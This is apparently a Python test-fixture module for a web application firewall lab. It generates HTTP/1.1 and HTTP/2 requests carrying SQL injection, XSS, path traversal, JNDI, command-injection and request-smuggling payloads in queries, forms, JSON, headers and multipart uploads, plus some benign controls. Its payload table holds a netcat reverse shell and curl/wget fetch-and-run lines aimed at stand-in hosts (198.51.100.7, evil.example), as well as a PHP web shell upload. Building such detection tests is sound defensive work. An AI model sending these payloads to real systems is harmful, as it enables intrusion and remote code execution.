# SPDX-License-Identifier: Apache-2.0
"""Requests that a WAF should find something in, as a client would send them; and some that look like it and are none.

    for case in built_in(): case.name, case.family, case.raw        HTTP/1.1
                            case.name, case.family, case.stream     HTTP/2: (fields, pieces of the body, options)
    for case in corpus(folder)      the core rule set's own regression requests, where a copy of them is there

The built-in ones cover each family of rules, and each form in which a request can arrive: that is where a rebuilder could
lose or change something.
"""

import base64
import gzip
import json
import re
import urllib.parse
from dataclasses import dataclass, field
from pathlib import Path

HOST = b"shop.example.com"
AGENT = b"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36"
FORM = b"application/x-www-form-urlencoded"
SQLI = b"1' OR '1'='1' UNION SELECT user,password FROM users-- -"
XSS = b"<script>alert(document.cookie)</script>"
COMMON = ((b"Host", HOST), (b"User-Agent", AGENT), (b"Accept", b"*/*"))
REQUEST_LINE = re.compile(rb"[^\r\n]*\sHTTP/[^\r\n]*\r?\n")


@dataclass
class Stream:
    """A request of HTTP/2: its fields, and its body in DATA frames."""
    fields: list
    body: list = field(default_factory=list)
    trailers: list = field(default_factory=list)
    header_piece: int = 0  # bytes of the header section in one frame, the rest comes in CONTINUATION; 0: all in one
    padding: int = 0


@dataclass
class Case:
    name: str
    family: str
    raw: bytes = b""
    stream: Stream = None

    def with_id(self, name):
        """What is sent: the request with its X-Lab-Id; None, where there is no place for one."""
        if self.stream:
            fields = [*self.stream.fields, (b"x-lab-id", name.encode())]
            return Stream(fields, self.stream.body, self.stream.trailers, self.stream.header_piece, self.stream.padding)
        line = REQUEST_LINE.match(self.raw)
        return line and self.raw[:line.end()] + b"X-Lab-Id: " + name.encode() + b"\r\n" + self.raw[line.end():]


def quoted(data):
    return urllib.parse.quote_from_bytes(data, safe="").encode()


def head(method, target, fields, common=COMMON):
    names = {name.lower() for name, _ in fields}
    lines = [(name, value) for name, value in common if name.lower() not in names] + list(fields)
    return method + b" " + target + b" HTTP/1.1\r\n" + b"".join(b"%s: %s\r\n" % each for each in lines) + b"\r\n"


def get(target, *fields, method=b"GET"):
    return head(method, target, fields)


def post(body, kind=FORM, *fields, target=b"/form", method=b"POST"):
    return head(method, target, ((b"Content-Type", kind), (b"Content-Length", b"%d" % len(body)), *fields)) + body


def chunked(body, size, kind=FORM, extension=b"", trailer=b"", fields=()):
    pieces = [body[at:at + size] for at in range(0, len(body), size)]
    return (head(b"POST", b"/form", ((b"Content-Type", kind), (b"Transfer-Encoding", b"chunked"), *fields)) +
            b"".join(b"%x%s\r\n%s\r\n" % (len(piece), extension, piece) for piece in pieces) + b"0\r\n" + trailer + b"\r\n")


def multipart(*parts, boundary=b"----lab7MA4YWxk", closed=True):
    """Each part is its header section and its data."""
    text = b"".join(b"--" + boundary + b"\r\n" + headers + b"\r\n\r\n" + data + b"\r\n" for headers, data in parts)
    return text + (b"--" + boundary + b"--\r\n" if closed else b"")


def form_part(name, data, more=b""):
    return b'Content-Disposition: form-data; name="' + name + b'"' + more, data


def upload(*parts, boundary=b"----lab7MA4YWxk", closed=True, kind=b"multipart/form-data; boundary="):
    return post(multipart(*parts, boundary=boundary, closed=closed), kind + boundary)


def in_query(data):
    return get(b"/search?q=" + quoted(data))


def in_form(data):
    return post(b"name=" + quoted(data) + b"&send=1")


# Payloads, by family: each is sent in the query, in a form and in JSON.
PAYLOADS = {
    "sqli": (SQLI, b"1; DROP TABLE orders; --", b"1 AND SLEEP(5)", b"'; EXEC xp_cmdshell('dir'); --",
             b"1/**/UNION/**/ALL/**/SELECT/**/NULL,@@version", b"x' AND 1=(SELECT COUNT(*) FROM tabname); --"),
    "xss": (XSS, b'"><img src=x onerror=alert(1)>', b"javascript:alert(1)", b"<svg/onload=confirm`1`>",
            b"<a href=\"vbscript:msgbox(1)\">", b"<iframe srcdoc='<script>1</script>'>"),
    "lfi": (b"../../../../etc/passwd", b"..%2f..%2f..%2fetc%2fshadow", b"....//....//boot.ini", b"/proc/self/environ",
            b"file:///etc/hosts", b"C:\\windows\\win.ini"),
    "rfi": (b"http://198.51.100.7/shell.txt?", b"ftp://198.51.100.7/x.php", b"https://evil.example/c99.txt"),
    "rce": (b"; cat /etc/passwd", b"| nc -e /bin/sh 198.51.100.7 4444", b"$(curl http://evil.example/x|sh)",
            b"`id`", b"& powershell -enc SQBFAFgA", b"() { :;}; /bin/bash -c id", b"a;wget${IFS}evil.example"),
    "php": (b"<?php system($_GET['c']); ?>", b"php://filter/convert.base64-encode/resource=index",
            b'O:8:"stdClass":1:{s:1:"a";i:1;}', b"eval(base64_decode('cGhwaW5mbygpOw=='));", b"$_SERVER['x']=phpinfo()"),
    "java": (b"${jndi:ldap://evil.example/a}", b"${${lower:j}ndi:${lower:l}dap://evil.example/a}",
             b"%{(#a=@java.lang.Runtime@getRuntime().exec('id'))}", b"java.lang.ProcessBuilder",
             b"class.module.classLoader.resources.context.parent.pipeline.first.pattern=x", b"rO0ABXNyABFqYXZh"),
    "node": (b"require('child_process').execSync('id')", b"__proto__[admin]=1", b"process.mainModule.constructor",
             b"_$$ND_FUNC$$_function(){}()", b"this.constructor.constructor('return process')()"),
    "fixation": (b"<script>document.cookie='sessionid=1;'</script>", b"PHPSESSID=1234; domain=.example.com"),
    "ldap": (b"*)(uid=*))(|(uid=*", b"admin)(&)"),
    "ssi": (b'<!--#exec cmd="ls"-->', b"{{7*7}}{{config.items()}}", b"<%= 7*7 %>"),
    "splitting": (b"x\r\nSet-Cookie: a=1", b"x\nLocation: http://evil.example/", b"x\r\nHTTP/1.1 200 OK\r\n\r\n<html>"),
}

IN_HEADERS = (
    ("scanner", (b"User-Agent", b"sqlmap/1.7#stable (https://sqlmap.org)")),
    ("scanner", (b"User-Agent", b"Nikto/2.5.0")),
    ("scanner", (b"User-Agent", b"masscan/1.3")),
    ("scanner", (b"User-Agent", b"() { :; }; /bin/bash -c 'cat /etc/passwd'")),
    ("java", (b"User-Agent", b"${jndi:dns://evil.example/x}")),
    ("java", (b"X-Api-Version", b"${jndi:ldap://evil.example/x}")),
    ("sqli", (b"Cookie", b"session=abc; id=" + quoted(SQLI))),
    ("sqli", (b"Referer", b"http://shop.example.com/?q=1'+OR+1=1--")),
    ("xss", (b"Referer", b"http://shop.example.com/" + XSS)),
    ("xss", (b"X-Custom", XSS)),
    ("fixation", (b"Referer", b"http://evil.example/?jsessionid=1")),
    ("header", (b"Accept-Encoding", b"gzip, deflate, x" * 40)),
    ("header", (b"Range", b"bytes=0-,5-0,5-1,5-2,5-3,5-4,5-5,5-6,5-7")),
    ("header", (b"X-Forwarded-For", b"127.0.0.1, 10.0.0.1' OR 1=1")),
    ("header", (b"X-Forwarded-Host", b"evil.example")),
    ("header", (b"X-Original-URL", b"/admin")),
    ("header", (b"X-Rewrite-URL", b"/admin")),
    ("header", (b"Content-Encoding", b"x-unknown")),
    ("header", (b"Proxy", b"http://evil.example:8080")),
    ("header", (b"Authorization", b"Basic " + base64.b64encode(b"admin' OR 1=1--:x"))),
    ("header", (b"X-Eight-Bit", b"K\xe4se \xff\xfe' OR 1=1--")),
    ("header", (b"X-Long", b"A' OR 1=1-- " * 1000)),
    ("header", (b"X-Empty", b"")),
    ("header", (b"X-Spaces", b"  <b>  two  spaces </b>  ")),
    ("header", (b"Accept", b"")),
    ("header", (b"Host", b"10.0.0.1")),
    ("header", (b"Host", b"shop.example.com:8080")),
    ("header", (b"Connection", b"keep-alive, X-Custom, close")),
    ("header", (b"Upgrade-Insecure-Requests", b"1' OR '1'='1")),
)


def everywhere():
    """Each payload in each place that a parser reads."""
    for family, payloads in PAYLOADS.items():
        for number, data in enumerate(payloads, 1):
            yield Case(f"{family}-{number}-query", family, in_query(data))
            yield Case(f"{family}-{number}-form", family, in_form(data))
            body = json.dumps({"order": {"note": data.decode("latin-1"), "count": 3}}).encode()
            yield Case(f"{family}-{number}-json", family, post(body, b"application/json"))
    for number, (family, field_) in enumerate(IN_HEADERS, 1):
        yield Case(f"{family}-header-{number}-{field_[0].decode()}", family, get(b"/", field_))


def forms():
    """The ways a body can come."""
    attack = b"id=" + quoted(SQLI) + b"&text=" + quoted(XSS)
    for size in (1, 7, 4096):
        yield "chunked", f"pieces-of-{size}", chunked(attack, size)
    yield "chunked", "extension", chunked(attack, 20, extension=b";name=\"<script>\"")
    yield "chunked", "trailer", chunked(attack, 20, trailer=b"X-Trailer: " + SQLI + b"\r\n", fields=((b"Trailer", b"X-Trailer"),))
    yield "chunked", "upper-case", chunked(attack, 20).replace(b"Transfer-Encoding: chunked", b"transfer-encoding: Chunked")
    yield "expect", "100-continue", post(attack, FORM, (b"Expect", b"100-continue"))
    yield "method", "put", post(attack, method=b"PUT")
    yield "method", "patch", post(attack, method=b"PATCH")
    yield "method", "delete-with-body", post(attack, method=b"DELETE")
    yield "method", "get-with-body", post(attack, method=b"GET")
    for method in (b"HEAD", b"OPTIONS", b"TRACE", b"PROPFIND", b"DEBUG", b"FOO"):
        yield "method", method.decode().lower(), get(b"/?q=" + quoted(XSS), method=method)
    for size in (100_000, 400_000, 900_000):
        yield "large", f"attack-behind-{size}", post(b"a=" + b"x" * size + b"&" + attack)
    yield "large", "json", post(json.dumps({"list": list(range(5000)), "q": SQLI.decode()}).encode(), b"application/json")
    yield "large", "many-fields", post(b"&".join(b"a%d=1" % number for number in range(300)) + b"&" + attack)
    yield "gzip", "body", post(gzip.compress(attack, mtime=0), FORM, (b"Content-Encoding", b"gzip"))
    yield "gzip", "json", post(gzip.compress(b'{"q":"' + XSS + b'"}', mtime=0), b"application/json", (b"Content-Encoding", b"gzip"))
    yield "xml", "external-entity", post(b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
                                         b"application/xml")
    yield "xml", "soap", post(b"<s:Envelope><s:Body>" + SQLI + b"</s:Body></s:Envelope>", b"application/soap+xml; charset=utf-8")
    yield "json", "broken", post(b'{"q": "' + XSS + b'"', b"application/json")
    yield "json", "deep", post(b'{"a":' * 60 + b'"' + SQLI.replace(b'"', b"") + b'"' + b"}" * 60, b"application/json")
    yield "json", "wrong-type", post(b'{"q": "' + XSS + b'"}', b"text/plain")
    yield "charset", "ibm037", post(attack, FORM + b"; charset=ibm037")
    yield "charset", "utf-7", post(b"q=%2BADw-script%2BAD4-alert(1)", FORM + b"; charset=utf-7")
    yield "no-type", "post", head(b"POST", b"/form", ((b"Content-Length", b"%d" % len(attack)),)) + attack


def multiparts():
    yield "plain", upload(form_part(b"q", SQLI), form_part(b"t", XSS))
    yield "file", upload(form_part(b"f", b"<?php eval($_POST[1]);", b'; filename="shell.php"\r\nContent-Type: image/png'))
    yield "file-name", upload(form_part(b"f", b"x", b'; filename="../../x.php;.png"'))
    yield "two-names", upload(form_part(b"a", SQLI, b'; name="b"'))
    yield "not-closed", upload(form_part(b"q", XSS), closed=False)
    yield "quoted-boundary", upload(form_part(b"q", XSS), kind=b'multipart/form-data; boundary="').replace(b'Wxk\r\n', b'Wxk"\r\n', 1)
    yield "bare-lf", post(multipart(form_part(b"q", XSS)).replace(b"\r\n", b"\n"), b"multipart/form-data; boundary=----lab7MA4YWxk")
    yield "before", post(b"junk\r\n" + multipart(form_part(b"q", XSS)), b"multipart/form-data; boundary=----lab7MA4YWxk")
    yield "behind", post(multipart(form_part(b"q", b"1")) + XSS, b"multipart/form-data; boundary=----lab7MA4YWxk")
    yield "charset-part", upload(form_part(b"q", XSS, b"\r\nContent-Type: text/plain; charset=utf-7"))
    yield "encoding-part", upload(form_part(b"q", base64.b64encode(XSS), b"\r\nContent-Transfer-Encoding: base64"))
    yield "chunked", chunked(multipart(form_part(b"q", SQLI)), 16, b"multipart/form-data; boundary=----lab7MA4YWxk")


def lines():
    """Request lines, encodings and framing at the edge of what a server takes."""
    yield "unicode", "overlong", get(b"/..%c0%af..%c0%afetc/passwd")
    yield "unicode", "full-width", get(b"/?q=%EF%BC%9Cscript%EF%BC%9E")
    yield "unicode", "percent-u", get(b"/?q=%u003Cscript%u003E")
    yield "unicode", "invalid-utf8", get(b"/?q=%ff%fe%80'")
    yield "unicode", "raw-bytes", get(b"/?q=K\xc3\xa4se'OR'1'='1")
    yield "unicode", "double-encoded", get(b"/?q=%253Cscript%253E")
    yield "unicode", "nul", get(b"/?q=a%00<script>")
    yield "target", "traversal", get(b"/a/../../../../etc/passwd")
    yield "target", "absolute-form", get(b"http://shop.example.com/?q=" + quoted(SQLI))
    yield "target", "absolute-form-other-host", get(b"http://other.example/?q=" + quoted(XSS))
    yield "target", "fragment", get(b"/#" + quoted(XSS))
    yield "target", "backup-file", get(b"/index.php.bak")
    yield "target", "dot-git", get(b"/.git/config")
    yield "target", "long", get(b"/?q=" + b"A" * 7000 + quoted(XSS))
    yield "target", "many-arguments", get(b"/?" + b"&".join(b"a=%d" % number for number in range(260)))
    yield "target", "same-name-twice", get(b"/?id=1&id=" + quoted(SQLI))
    yield "target", "semicolons", get(b"/a;jsessionid=1;q=" + quoted(XSS))
    yield "target", "percent-alone", get(b"/?q=100%&x=%zz")
    yield "target", "asterisk", get(b"*", method=b"OPTIONS")
    yield "protocol", "http10", get(b"/?q=" + quoted(SQLI)).replace(b" HTTP/1.1", b" HTTP/1.0", 1)
    yield "protocol", "no-agent", head(b"GET", b"/?q=1", (), COMMON[:1])
    yield "protocol", "no-host", get(b"/").replace(b"Host: " + HOST + b"\r\n", b"")
    yield "protocol", "host-twice", get(b"/").replace(b"\r\n\r\n", b"\r\nHost: evil.example\r\n\r\n")
    yield "protocol", "content-length-and-chunked", chunked(b"q=" + SQLI, 50, fields=((b"Content-Length", b"5"),))
    yield "protocol", "content-length-twice", post(b"q=<x>").replace(b"Content-Length: 5", b"Content-Length: 5\r\nContent-Length: 6")
    yield "protocol", "content-length-bad", post(b"q=<x>").replace(b"Content-Length: 5", b"Content-Length: 5x")
    yield "protocol", "bare-lf", get(b"/?q=" + quoted(SQLI)).replace(b"\r\n", b"\n")
    yield "protocol", "folded", get(b"/", (b"X-Folded", b"<script>\r\n alert(1)</script>"))
    yield "protocol", "space-before-colon", get(b"/").replace(b"Accept:", b"Accept :")
    yield "protocol", "underscore-name", get(b"/", (b"X_Under_Score", SQLI))
    yield "protocol", "name-twice", get(b"/", (b"X-Twice", b"<script>"), (b"X-Twice", b"' OR 1=1--"))
    yield "protocol", "websocket", get(b"/chat?q=" + quoted(XSS), (b"Connection", b"Upgrade"), (b"Upgrade", b"websocket"),
                                       (b"Sec-WebSocket-Key", b"dGhlIHNhbXBsZSBub25jZQ=="), (b"Sec-WebSocket-Version", b"13"))
    yield "protocol", "te-trailers", get(b"/", (b"TE", b"trailers"), (b"Connection", b"TE"))
    yield "benign", "page", get(b"/products/17?colour=blue")
    yield "benign", "form", post(b"name=Anna&city=Bern")
    yield "benign", "json", post(b'{"item":"cheese","count":2}', b"application/json")


def streams():
    """The same in HTTP/2."""
    def of(method, path, *fields, body=(), **options):
        pseudo = [(b":method", method), (b":scheme", b"http"), (b":authority", HOST), (b":path", path)]
        return Stream([*pseudo, (b"user-agent", AGENT), (b"accept", b"*/*"), *fields], list(body), **options)

    attack = b"id=" + quoted(SQLI) + b"&text=" + quoted(XSS)
    form = (b"content-type", FORM)
    for family, payloads in PAYLOADS.items():
        yield f"{family}-query", of(b"GET", b"/search?q=" + quoted(payloads[0]))
        yield f"{family}-form", of(b"POST", b"/form", form, body=[b"name=" + quoted(payloads[0])])
    yield "length", of(b"POST", b"/form", form, (b"content-length", b"%d" % len(attack)), body=[attack])
    yield "pieces", of(b"POST", b"/form", form, body=[attack[at:at + 9] for at in range(0, len(attack), 9)])
    yield "padded", of(b"POST", b"/form", form, body=[attack], padding=100)
    yield "trailers", of(b"POST", b"/form", form, body=[attack], trailers=[(b"x-trailer", SQLI)])
    yield "continuation", of(b"GET", b"/", (b"x-attack", XSS), (b"x-fill", b"f" * 3000), header_piece=700)
    yield "cookie-crumbs", of(b"GET", b"/", (b"cookie", b"a=1"), (b"cookie", b"b=" + quoted(SQLI)), (b"cookie", b"c=3"))
    yield "jndi-header", of(b"GET", b"/", (b"x-api-version", b"${jndi:ldap://evil.example/x}"))
    yield "json", of(b"POST", b"/api", (b"content-type", b"application/json"), body=[b'{"q":"' + XSS + b'"}'])
    yield "empty-body", of(b"POST", b"/form", form, body=[b""])
    yield "put", of(b"PUT", b"/form", form, body=[attack])
    yield "trace", of(b"TRACE", b"/?q=" + quoted(XSS))
    yield "no-agent", Stream([(b":method", b"GET"), (b":scheme", b"http"), (b":authority", HOST), (b":path", b"/")])
    yield "host-field", of(b"GET", b"/", (b"host", HOST))
    yield "raw-path", of(b"GET", b"/?q=<script>alert(1)</script>")
    yield "path-with-crlf", of(b"GET", b"/?q=x\r\nX-Injected: 1")
    yield "value-with-crlf", of(b"GET", b"/", (b"x-split", b"a\r\nX-Injected: 1"))
    yield "upper-case-name", of(b"GET", b"/", (b"X-Upper", XSS))
    yield "connection-field", of(b"GET", b"/", (b"connection", b"close"))
    yield "benign", of(b"GET", b"/products/17?colour=blue")


def built_in():
    yield from everywhere()
    for family, name, raw in forms():
        yield Case(f"{family}-{name}", family, raw)
    for name, raw in multiparts():
        yield Case(f"multipart-{name}", "multipart", raw)
    for family, name, raw in lines():
        yield Case(f"{family}-{name}", family, raw)
    for name, stream in streams():
        yield Case(f"http2-{name}", "http2", stream=stream)


def corpus(folder):
    """The regression requests, from `conformance/crs.jsonl` in a folder; nothing, if that isn't there."""
    path = Path(folder, "conformance", "crs.jsonl")
    if not path.exists():
        return
    with path.open() as file:
        for line in file:
            row = json.loads(line)
            name = row["id"].partition(":")[2]
            yield Case(name, f"crs-{name[:3]}", base64.b64decode(row["raw_b64"]))
